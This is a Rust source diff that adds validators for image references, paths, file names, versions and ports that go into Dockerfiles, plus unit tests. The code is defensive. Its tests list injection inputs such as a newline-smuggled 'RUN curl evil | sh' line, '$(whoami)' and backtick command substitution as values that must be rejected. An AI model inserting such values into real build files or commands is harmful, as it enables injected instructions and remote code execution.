@@ -1,0 +1,193 @@
+//! Validators for every value that reaches a Dockerfile. Answers are checked when they are resolved and again
+//! by the template filters, so a value from a hostile repository cannot add or change an instruction.
+
+use anyhow::{bail, Result};
+
+/// Checks an image reference against the OCI distribution grammar: `[host[:port]/]path[:tag][@digest]`.
+pub fn image_reference(reference: &str) -> Result<()> {
+    let explain = |why: &str| anyhow::anyhow!("`{reference}` is not a valid image reference ({why})");
+    let (rest, digest) = match reference.split_once('@') {
+        Some((rest, digest)) => (rest, Some(digest)),
+        None => (reference, None),
+    };
+    if let Some(digest) = digest {
+        let (algorithm, hex) = digest.split_once(':').ok_or_else(|| explain("digest needs algorithm:hex"))?;
+        let algorithm_ok = !algorithm.is_empty()
+            && algorithm.split(['+', '.', '-', '_']).all(|part| {
+                part.chars().next().is_some_and(|c| c.is_ascii_alphabetic()) && part.chars().all(|c| c.is_ascii_alphanumeric())
+            });
+        if !algorithm_ok || hex.len() < 32 || !hex.chars().all(|c| c.is_ascii_hexdigit()) {
+            return Err(explain("malformed digest"));
+        }
+    }
+    // A colon after the last slash starts the tag; one before it belongs to a registry port.
+    let last_slash = rest.rfind('/').map_or(0, |i| i + 1);
+    let (name, tag) = match rest[last_slash..].find(':') {
+        Some(i) => (&rest[..last_slash + i], Some(&rest[last_slash + i + 1..])),
+        None => (rest, None),
+    };
+    if let Some(tag) = tag {
+        let mut chars = tag.chars();
+        let first_ok = chars.next().is_some_and(|c| c.is_ascii_alphanumeric() || c == '_');
+        if !first_ok || tag.len() > 128 || !chars.all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '-')) {
+            return Err(explain("malformed tag"));
+        }
+    }
+    if name.is_empty() || name.len() > 255 {
+        return Err(explain("name must be 1 to 255 characters"));
+    }
+    let mut components: Vec<&str> = name.split('/').collect();
+    let first = components[0];
+    let has_domain = components.len() > 1 && (first.contains(['.', ':']) || first == "localhost" || first.chars().any(|c| c.is_ascii_uppercase()));
+    if has_domain {
+        if !is_domain(first) {
+            return Err(explain("malformed registry host"));
+        }
+        components.remove(0);
+    }
+    if !components.iter().all(|c| is_path_component(c)) {
+        return Err(explain("name components are lowercase letters and digits separated by `.`, `_`, `__` or `-`"));
+    }
+    Ok(())
+}
+
+fn is_domain(domain: &str) -> bool {
+    let (host, port) = match domain.rsplit_once(':') {
+        Some((host, port)) if !host.ends_with(']') || domain.starts_with('[') => (host, Some(port)),
+        _ => (domain, None),
+    };
+    if port.is_some_and(|p| p.is_empty() || !p.chars().all(|c| c.is_ascii_digit())) {
+        return false;
+    }
+    if let Some(ipv6) = host.strip_prefix('[').and_then(|h| h.strip_suffix(']')) {
+        return !ipv6.is_empty() && ipv6.chars().all(|c| c.is_ascii_hexdigit() || c == ':');
+    }
+    !host.is_empty()
+        && host.split('.').all(|label| {
+            !label.is_empty()
+                && !label.starts_with('-')
+                && !label.ends_with('-')
+                && label.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
+        })
+}
+
+fn is_path_component(component: &str) -> bool {
+    let alnum = |c: char| c.is_ascii_lowercase() || c.is_ascii_digit();
+    if component.is_empty() || !component.starts_with(alnum) || !component.ends_with(alnum) {
+        return false;
+    }
+    // Between alphanumeric runs: `.`, `_`, `__` or any number of `-`.
+    let mut separator = String::new();
+    for c in component.chars() {
+        if alnum(c) {
+            if !(separator.is_empty() || separator == "." || separator == "_" || separator == "__" || separator.chars().all(|s| s == '-')) {
+                return false;
+            }
+            separator.clear();
+        } else if matches!(c, '.' | '_' | '-') {
+            separator.push(c);
+        } else {
+            return false;
+        }
+    }
+    true
+}
+
+/// A TCP port a container can listen on.
+pub fn port(value: i64) -> Result<u16> {
+    match u16::try_from(value) {
+        Ok(port) if port > 0 => Ok(port),
+        _ => bail!("`{value}` is not a valid port (1-65535)"),
+    }
+}
+
+/// A relative path inside the build context, safe to write unquoted in a Dockerfile or shell command:
+/// letters, digits and `._-/+@`, no `..` component, not absolute.
+pub fn context_path(value: &str) -> Result<()> {
+    let safe = !value.is_empty()
+        && value.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-' | '/' | '+' | '@'))
+        && !value.starts_with('/')
+        && !value.starts_with('-')
+        && !value.split('/').any(|part| part == "..");
+    if !safe {
+        bail!("`{}` is not a safe relative path (letters, digits and ._-/+@ only, no `..`)", value.escape_debug());
+    }
+    Ok(())
+}
+
+/// A file name such as a binary's: letters, digits and `._-`, not starting with `.` or `-`.
+pub fn file_name(value: &str) -> Result<()> {
+    let safe = !value.is_empty()
+        && value.len() <= 255
+        && value.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-'))
+        && !value.starts_with(['.', '-']);
+    if !safe {
+        bail!("`{}` is not a safe file name (letters, digits and ._- only)", value.escape_debug());
+    }
+    Ok(())
+}
+
+/// A version such as `1.23` or `20`: digits and dots only.
+pub fn version(value: &str) -> Result<()> {
+    let safe = !value.is_empty()
+        && value.len() <= 32
+        && value.split('.').all(|part| !part.is_empty() && part.chars().all(|c| c.is_ascii_digit()));
+    if !safe {
+        bail!("`{}` is not a version (digits separated by dots, e.g. 1.23)", value.escape_debug());
+    }
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn accepts_real_image_references() {
+        for ok in [
+            "alpine:3.20",
+            "golang:1.23-alpine",
+            "gcr.io/distroless/static-debian12:nonroot",
+            "localhost:5000/team/app:v1.2",
+            "registry.example.com/a__b/c-d:latest",
+            "nginx@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
+            "eclipse-temurin:21-jre-alpine",
+            "[::1]:5000/app:1",
+        ] {
+            assert!(image_reference(ok).is_ok(), "{ok}");
+        }
+    }
+
+    #[test]
+    fn rejects_injection_and_malformed_references() {
+        for bad in [
+            "",
+            "alpine:3.20\nRUN curl evil | sh",
+            "alpine 3.20",
+            "Alpine:3",
+            "alpine:",
+            "alpine:-x",
+            "alpine@sha256:abc",
+            "$(whoami)",
+            "a/../b",
+            "golang:1.23`id`",
+            "ubuntu:22.04#x",
+        ] {
+            assert!(image_reference(bad).is_err(), "{bad:?}");
+        }
+    }
+
+    #[test]
+    fn paths_names_versions_and_ports() {
+        assert!(context_path("./cmd/api").is_ok());
+        assert!(context_path(".").is_ok());
+        for bad in ["../x", "/etc", "a b", "a\nRUN x", "$(x)", "a\"b", "-rf", "a\\b", "a#b"] {
+            assert!(context_path(bad).is_err(), "{bad:?}");
+        }
+        assert!(file_name("api-server_2").is_ok());
+        assert!(file_name("a/b").is_err() && file_name(".hidden").is_err() && file_name("").is_err());
+        assert!(version("1.23").is_ok() && version("1.23;x").is_err() && version("1..2").is_err());
+        assert_eq!(port(8080).unwrap(), 8080);
+        assert!(port(0).is_err() && port(65536).is_err() && port(-1).is_err());
+    }
+}
